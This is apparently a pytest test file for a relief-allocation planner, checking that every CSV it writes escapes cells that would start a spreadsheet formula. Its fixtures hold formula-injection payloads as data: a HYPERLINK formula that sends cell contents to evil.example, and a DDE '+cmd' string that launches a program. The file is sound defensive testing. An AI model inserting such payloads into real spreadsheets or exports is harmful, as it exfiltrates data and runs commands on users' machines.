"""Formula injection: no CSV cell allocate writes can start a spreadsheet formula, and readers undo the guard.

Ids, items, lots, donors, grids, skills and tier names come from planners' spreadsheets and can start with `=`,
`+`, `-`, `@` (or a tab or carriage return): `=HYPERLINK(...)` or `+cmd|' /C calc'!A0` would run when a planner
opens `allocation.csv` in Excel or WPS. Every CSV goes through `allocate.files.write_csv`, which prefixes such a
cell with `'` (OWASP's rule); `read_plan` (and so `allocate verify` and `explain`) drops it again.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from allocate import Case, Household, Lot, Need, Plan, Policy, Service, Tier, Urgency, Volunteer, read_case, solve
from allocate.cli import cli
from allocate.explain import explain
from allocate.files import write_csv
from allocate.io import read_plan, write_case, write_template
from allocate.outputs import write_outputs
from allocate.report import build_summary
from allocate.schema import Clause
from allocate.text import FORMULA_START, neutralise, restore

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CALC = "+cmd|' /C calc'!A0"
DAY = dt.date(2026, 12, 1)
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", re.ASCII)
"""A plain number: a spreadsheet reads it as a number, never a formula, so it is written as it is."""


def hostile_case() -> Case:
    """Every id, item, lot, donor, grid, skill and tier name a formula (or a real leading `'`); rice is short,
    oil has no lot, so unmet.csv has rows too."""
    return Case(
        households=(
            Household(household_id=LINK, grid="=A1"),
            Household(household_id=CALC, grid="=A1"),
            Household(household_id="-2+3", grid="@grid"),
            Household(household_id="'quoted", grid="@grid"),
            Household(household_id="-7", grid="@grid"),
        ),
        needs=(
            Need(household_id=LINK, item="-rice", quantity=2, urgency=Urgency.CRITICAL),
            Need(household_id=CALC, item="-rice", quantity=2),
            Need(household_id="-2+3", item="-rice", quantity=2),
            Need(need_id="@N4", household_id="'quoted", item="=oil", quantity=1),
            Need(household_id="-7", item="-rice", quantity=1),
        ),
        lots=(Lot(lot_id="=L1", item="-rice", quantity=4, donor="+donor"),),
        volunteers=(Volunteer(volunteer_id="@V1", grids=("*",), hours=8, skills=("=care",)),),
        services=(Service(service_id="+S1", household_id=LINK, skill="=care", hours=1),),
        policy=Policy(
            plan_date=DAY,
            tiers=(Tier(name="=top", when=(Clause(urgency=(Urgency.CRITICAL,)),)), Tier(name="@rest")),
        ),
    )


@pytest.fixture(scope="module")
def plan() -> Plan:
    """The solved hostile case."""
    return solve(hostile_case())


@pytest.fixture(scope="module")
def out(plan: Plan, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every output file of the hostile plan, as `allocate solve` writes them."""
    folder = tmp_path_factory.mktemp("hostile") / "out"
    explanation = explain(plan, marginal=False)
    write_outputs(folder, plan, explanation, build_summary(plan, explanation, inputs={}, timings={}))
    return folder


def cells(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def assert_no_formula(file: Path) -> list[list[str]]:
    """Every cell of `file` either starts harmlessly or is a plain number; returns the rows."""
    rows = cells(file)
    for row in rows:
        for cell in row:
            assert cell[:1] not in set("=+-@\t\r") or NUMBER.fullmatch(cell), (file.name, cell)
    return rows


def test_allocation_csv_has_no_formula(out: Path) -> None:
    """allocation.csv guards need ids, households, grids, tiers, items and lot ids with a leading `'`."""
    rows = assert_no_formula(out / "allocation.csv")
    assert ["'" + LINK + "/-rice", "'" + LINK, "'=A1", "'=top", "'-rice", "'=L1", "2"] in rows
    assert ["'-7/-rice", "-7", "'@grid", "'@rest", "'-rice", "'=L1"] in [r[:6] for r in rows]  # -7 is a number


def test_visits_csv_has_no_formula(out: Path) -> None:
    """visits.csv guards volunteer, household and service ids and grids."""
    rows = assert_no_formula(out / "visits.csv")
    assert ["'@V1", "'" + LINK, "'=A1", "service", "'+S1", "1"] in rows


def test_unmet_csv_has_no_formula(out: Path) -> None:
    """unmet.csv guards ids, grids, tiers and items; a real leading `'` is doubled so it can be told apart."""
    rows = assert_no_formula(out / "unmet.csv")
    assert ["need", "'@N4", "''quoted", "'@grid", "'@rest", "'=oil", "1", "0", "1", "no_supply"] in rows


def test_case_and_template_files_have_no_formula(tmp_path: Path) -> None:
    """write_case (behind `allocate generate`) and write_template guard every table they write, lists too."""
    write_case(hostile_case(), tmp_path / "case")
    written = sorted(p.name for p in (tmp_path / "case").glob("*.csv"))
    assert written == ["households.csv", "needs.csv", "services.csv", "supplies.csv", "volunteers.csv"]
    for name in written:
        assert_no_formula(tmp_path / "case" / name)
    assert cells(tmp_path / "case" / "supplies.csv")[1][:4] == ["'=L1", "'-rice", "4", "'+donor"]
    assert cells(tmp_path / "case" / "volunteers.csv")[1] == ["'@V1", "*", "8", "'=care"]
    write_template(tmp_path / "t")
    for file in (tmp_path / "t").glob("*.csv"):
        assert_no_formula(file)


def test_written_case_reads_back_identical(tmp_path: Path) -> None:
    """A case written with guarded cells reads back with every id, item, lot and grid exactly as it was."""
    case = hostile_case()
    write_case(case, tmp_path / "case")
    back = read_case(tmp_path / "case")
    assert (back.households, back.needs, back.lots) == (case.households, case.needs, case.lots)
    assert (back.volunteers, back.services) == (case.volunteers, case.services)


def test_written_plan_reads_back_identical(plan: Plan, out: Path) -> None:
    """read_plan undoes the guard: a plan with hostile ids (and one that really starts with `'`) reads back equal."""
    got = read_plan(plan.case, out, plan_date=DAY)
    assert got.allocations == plan.allocations
    assert got.visits == plan.visits
    assert {a.need_id for a in got.allocations} >= {LINK + "/-rice", "-7/-rice"}


def test_verify_and_explain_read_the_guarded_plan(plan: Plan, tmp_path: Path) -> None:
    """`allocate solve` then `allocate verify` and `explain` on a CSV case with formula ids: all exit 0."""
    case = tmp_path / "case"
    case.mkdir()
    rows = {
        "households.csv": [["household_id", "grid"], [LINK, "=A1"], [CALC, "@grid"]],
        "needs.csv": [["household_id", "item", "quantity"], [LINK, "-rice", "2"], [CALC, "-rice", "2"]],
        "supplies.csv": [["lot_id", "item", "quantity", "donor"], ["=L1", "-rice", "3", "+donor"]],
    }
    for name, table in rows.items():
        with (case / name).open("w", encoding="utf-8", newline="") as f:
            csv.writer(f).writerows(table)
    runner = CliRunner()
    done = runner.invoke(cli, ["solve", str(case), "-o", str(tmp_path / "out"), "--date", "2026-12-01"])
    assert done.exit_code == 0, done.output
    assert_no_formula(tmp_path / "out" / "allocation.csv")
    checked = runner.invoke(cli, ["verify", str(case), str(tmp_path / "out")])
    assert checked.exit_code == 0, checked.output
    told = runner.invoke(cli, ["explain", str(case), str(tmp_path / "out"), "--household", CALC])
    assert told.exit_code == 0, told.output
    assert "'" + CALC not in told.output


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("''=x", "'''=x"),
        ("-1", "-1"),
        ("+2.5", "+2.5"),
        ("-1e3", "-1e3"),
        ("x=1", "x=1"),
        ("", ""),
    ],
)
def test_neutralise_guards_formulas_and_leaves_numbers(cell: str, written: str) -> None:
    """A cell starting like a formula (or with `'`) gets a `'`; plain numbers and other text are left alone."""
    assert neutralise(cell) == written
    assert restore(written) == cell


def test_restore_leaves_a_lone_apostrophe_as_typed() -> None:
    """A hand-made cell `'abc` (never written by neutralise) reads as it is."""
    assert restore("'abc") == "'abc"
    assert restore("'") == "'"


@given(st.text())
def test_neutralise_round_trips_any_text(cell: str) -> None:
    """restore(neutralise(c)) == c for every text, and the written cell never starts a formula."""
    written = neutralise(cell)
    assert restore(written) == cell
    assert written[:1] not in FORMULA_START - {"'"} or NUMBER.fullmatch(written)


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=5))
def test_write_csv_round_trips_through_restore(tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]]) -> None:
    """Any rows written by write_csv read back equal through csv and restore."""
    file = tmp_path_factory.mktemp("csv") / "t.csv"
    width = max((len(r) for r in rows), default=1)
    rows = [r + [""] * (width - len(r)) for r in rows]
    write_csv(file, ["h"] * width, rows)
    back = [[restore(c) for c in r] for r in cells(file)[1:]]
    assert back == rows


def test_write_csv_neutralises_only_the_cells_that_need_it(tmp_path: Path) -> None:
    """Cells are checked a column at a time: a formula in one column is escaped there and nowhere else, numbers,
    `None` (a blank cell) and plain text in the same rows are written as they are."""
    file = tmp_path / "t.csv"
    write_csv(file, ["a", "b", "c"], [("=SUM(A1)", -1, None), ("plain", 2.5, "x"), ("@cmd", 3, "")])
    assert cells(file) == [["a", "b", "c"], ["'=SUM(A1)", "-1", ""], ["plain", "2.5", "x"], ["'@cmd", "3", ""]]


def test_write_csv_refuses_rows_that_do_not_fit_the_header(tmp_path: Path) -> None:
    """A row of another width than the others or the header is a bug in the caller: refused, nothing written."""
    with pytest.raises(ValueError, match="shorter"):
        write_csv(tmp_path / "t.csv", ["a", "b"], [("1", "2"), ("3",)])
    with pytest.raises(ValueError, match="header"):
        write_csv(tmp_path / "u.csv", ["a", "b"], [("1", "2", "3")])
    assert not list(tmp_path.iterdir())
